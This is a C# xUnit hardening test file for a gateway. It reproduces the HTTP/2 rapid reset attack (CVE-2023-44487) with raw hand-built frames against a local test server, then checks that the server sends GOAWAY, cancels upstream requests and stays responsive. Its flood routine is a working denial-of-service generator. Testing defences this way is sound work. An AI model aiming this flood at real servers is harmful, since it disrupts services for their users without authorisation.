using System.Buffers.Binary;
using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text;
using Gateway.Middleware.FunctionalTests.Infrastructure;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Server.Kestrel.Core;
using Microsoft.Extensions.DependencyInjection;
using Xunit.Abstractions;

namespace Gateway.Middleware.HardeningTests.Faults;

/// <summary>
/// HTTP/2 rapid reset (CVE-2023-44487) with raw frames over h2c: a client opens thousands of streams and resets each
/// at once. Kestrel's defence (it stops the connection with GOAWAY ENHANCE_YOUR_CALM once reset streams pile up)
/// and the gateway's cancellation (a reset stream cancels its upstream request) together keep the upstream from
/// seeing a flood of live requests, and the gateway keeps answering other clients.
/// </summary>
public sealed class Http2RapidResetTests(ITestOutputHelper output)
{
    private const int Streams = 20_000;

    /// <summary>HPACK: :method GET, :scheme http, :path /, :authority localhost (literal without indexing, name index 1).</summary>
    private static readonly byte[] Request = [0x82, 0x86, 0x84, 0x01, 9, .. "localhost"u8];

    /// <summary>RST_STREAM payload: CANCEL (0x8).</summary>
    private static readonly byte[] Cancel = [0, 0, 0, 0x8];

    [Fact]
    public async Task RapidReset_ThousandsOfStreamsOpenedAndReset_UpstreamNotFloodedGatewayResponsive()
    {
        var live = 0;
        var maxLive = 0;
        var seen = 0;
        await using var upstream = await TestUpstream.StartAsync(async context =>
        {
            if (context.Request.Path == "/ok")
            {
                await context.Response.WriteAsync("ok");
                return;
            }

            Interlocked.Increment(ref seen);
            var now = Interlocked.Increment(ref live);
            InterlockedMax(ref maxLive, now);
            try
            {
                await Task.Delay(TimeSpan.FromSeconds(30), context.RequestAborted);
            }
            catch (OperationCanceledException)
            {
            }
            finally
            {
                Interlocked.Decrement(ref live);
            }
        });
        await using var gateway = await GatewayHost.StartAsync(
            g => g.AddUpstream("up", u => u.Endpoint(upstream.Address)).AddRoute("all", r => r.RouteTo("up")),
            HttpProtocols.Http2);

        var (sent, goAway, errorCode) = await FloodAsync(gateway.Port);

        output.WriteLine($"streams opened and reset: {sent}; connection ended by the server: {goAway} ({(errorCode == uint.MaxValue ? "closed" : $"GOAWAY 0x{errorCode:x}")}); upstream saw {seen}, at most {maxLive} live at once");

        // Every request the upstream did see is cancelled promptly: nothing keeps running for the attacker.
        await Deadline.UntilAsync(() => Volatile.Read(ref live) == 0, TimeSpan.FromSeconds(2), $"{Volatile.Read(ref live)} upstream requests still live");

        // The gateway still serves others at once.
        using var client = gateway.CreateClient(HttpVersion.Version20);
        var clock = Stopwatch.StartNew();
        using var response = await client.GetAsync("/ok");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(2), $"a normal request took {clock.ElapsedMilliseconds} ms after the attack");

        // Not a flood: far fewer concurrent upstream requests than streams the attacker opened.
        Assert.True(Volatile.Read(ref maxLive) <= 500, $"{maxLive} upstream requests were live at once");
        Assert.True(goAway || Volatile.Read(ref seen) < Streams, "every reset stream reached the upstream and the connection was never refused");
    }

    [Fact]
    public async Task ResetAfterForwarding_EachBatchOfStreams_UpstreamRequestsCancelledWithin1sNeverAccumulate()
    {
        // The slower variant: the attacker waits until the gateway has forwarded each stream, then resets it.
        // Unless a reset stream cancels its upstream request, live upstream requests pile up batch after batch.
        const int Batch = 50;
        var live = 0;
        await using var upstream = await TestUpstream.StartAsync(async context =>
        {
            Interlocked.Increment(ref live);
            try
            {
                await Task.Delay(TimeSpan.FromSeconds(30), context.RequestAborted);
            }
            catch (OperationCanceledException)
            {
            }
            finally
            {
                Interlocked.Decrement(ref live);
            }
        });
        await using var gateway = await GatewayHost.StartAsync(
            g => g.AddUpstream("up", u => u.Endpoint(upstream.Address)).AddRoute("all", r => r.RouteTo("up")),
            HttpProtocols.Http2);
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        await socket.ConnectAsync(IPAddress.Loopback, gateway.Port);
        await using var stream = new NetworkStream(socket, ownsSocket: false);
        var goAway = new TaskCompletionSource<uint>(TaskCreationOptions.RunContinuationsAsynchronously);
        var reader = ReadFramesAsync(stream, goAway);
        var frames = new MemoryStream();
        frames.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        WriteFrame(frames, type: 0x4, flags: 0, streamId: 0, []);
        await stream.WriteAsync(frames.ToArray());

        var id = 1;
        for (var round = 0; round < 10; round++)
        {
            frames.SetLength(0);
            var first = id;
            for (var i = 0; i < Batch; i++, id += 2)
            {
                WriteFrame(frames, type: 0x1, flags: 0x5, streamId: id, Request);
            }

            await stream.WriteAsync(frames.ToArray());
            await Deadline.UntilAsync(() => Volatile.Read(ref live) == Batch, TimeSpan.FromSeconds(10), $"round {round}: {Volatile.Read(ref live)} of {Batch} streams reached the upstream");

            frames.SetLength(0);
            for (var stream2 = first; stream2 < id; stream2 += 2)
            {
                WriteFrame(frames, type: 0x3, flags: 0, streamId: stream2, Cancel);
            }

            await stream.WriteAsync(frames.ToArray());
            await Deadline.UntilAsync(() => Volatile.Read(ref live) == 0, TimeSpan.FromSeconds(1), $"round {round}: {Volatile.Read(ref live)} upstream requests still live 1 s after their streams were reset");
        }

        socket.Close();
        await reader;
    }

    private static void InterlockedMax(ref int target, int value)
    {
        int current;
        while (value > (current = Volatile.Read(ref target)) && Interlocked.CompareExchange(ref target, value, current) != current)
        {
        }
    }

    /// <summary>Opens <see cref="Streams"/> streams, each HEADERS immediately followed by RST_STREAM(CANCEL).</summary>
    private static async Task<(int Sent, bool GoAway, uint ErrorCode)> FloodAsync(int port)
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        await socket.ConnectAsync(IPAddress.Loopback, port);
        await using var stream = new NetworkStream(socket, ownsSocket: false);
        var goAway = new TaskCompletionSource<uint>(TaskCreationOptions.RunContinuationsAsynchronously);
        var reader = ReadFramesAsync(stream, goAway);

        var setup = new MemoryStream();
        setup.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        WriteFrame(setup, type: 0x4, flags: 0, streamId: 0, []);
        await stream.WriteAsync(setup.ToArray());

        var sent = 0;
        var batch = new MemoryStream();
        try
        {
            for (var id = 1; sent < Streams && !goAway.Task.IsCompleted; id += 2)
            {
                WriteFrame(batch, type: 0x1, flags: 0x5, streamId: id, Request);
                WriteFrame(batch, type: 0x3, flags: 0, streamId: id, Cancel);
                sent++;
                if (sent % 100 == 0)
                {
                    await stream.WriteAsync(batch.ToArray());
                    batch.SetLength(0);
                }
            }
        }
        catch (IOException)
        {
            // The server closed the connection on us: the defence at work.
        }

        var closed = await Task.WhenAny(goAway.Task, Task.Delay(TimeSpan.FromSeconds(2))) == goAway.Task;
        socket.Close();
        await reader;
        return (sent, closed, closed ? goAway.Task.Result : 0);
    }

    private static async Task ReadFramesAsync(NetworkStream stream, TaskCompletionSource<uint> goAway)
    {
        var header = new byte[9];
        try
        {
            while (true)
            {
                await stream.ReadExactlyAsync(header);
                var length = (header[0] << 16) | (header[1] << 8) | header[2];
                var payload = new byte[length];
                await stream.ReadExactlyAsync(payload);
                if (header[3] == 0x7 && length >= 8)
                {
                    goAway.TrySetResult(BinaryPrimitives.ReadUInt32BigEndian(payload.AsSpan(4)));
                }
                else if (header[3] == 0x4 && (header[4] & 0x1) == 0)
                {
                    // ACK the server's SETTINGS as a well-behaved client would (the attack is the resets).
                    var ack = new MemoryStream();
                    WriteFrame(ack, type: 0x4, flags: 0x1, streamId: 0, []);
                    await stream.WriteAsync(ack.ToArray());
                }
            }
        }
        catch (Exception ex) when (ex is IOException or EndOfStreamException or ObjectDisposedException or SocketException)
        {
            // The connection closed without a GOAWAY (or after one, already recorded).
            goAway.TrySetResult(uint.MaxValue);
        }
    }

    private static void WriteFrame(MemoryStream output, byte type, byte flags, int streamId, ReadOnlySpan<byte> payload)
    {
        Span<byte> header = stackalloc byte[9];
        header[0] = (byte)(payload.Length >> 16);
        header[1] = (byte)(payload.Length >> 8);
        header[2] = (byte)payload.Length;
        header[3] = type;
        header[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(header[5..], streamId);
        output.Write(header);
        output.Write(payload);
    }
}
